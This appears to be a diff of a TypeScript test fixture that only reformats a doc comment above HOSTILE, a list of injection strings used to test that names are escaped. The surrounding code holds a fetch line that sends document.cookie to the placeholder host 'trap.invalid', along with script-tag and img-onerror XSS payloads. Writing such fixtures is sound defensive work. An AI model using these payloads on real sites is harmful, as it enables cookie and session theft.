@@ -3,7 +3,10 @@ export const TRAP = 'trap.invalid'
 
 const trap = `fetch('//${TRAP}/'+document.cookie)`
 
-/** Texts that try to become code, addresses, other elements, the end of a block, or to be read in another order. None is longer than a name may be. */
+/**
+ * Texts that try to become code, addresses, other elements, the end of a block, or to be read in another order. None is
+ * longer than a name may be.
+ */
 export const HOSTILE: readonly string[] = [
   `<script>${trap}</script>`,
   `"><img src=//${TRAP}/1 onerror=alert(1)>`,
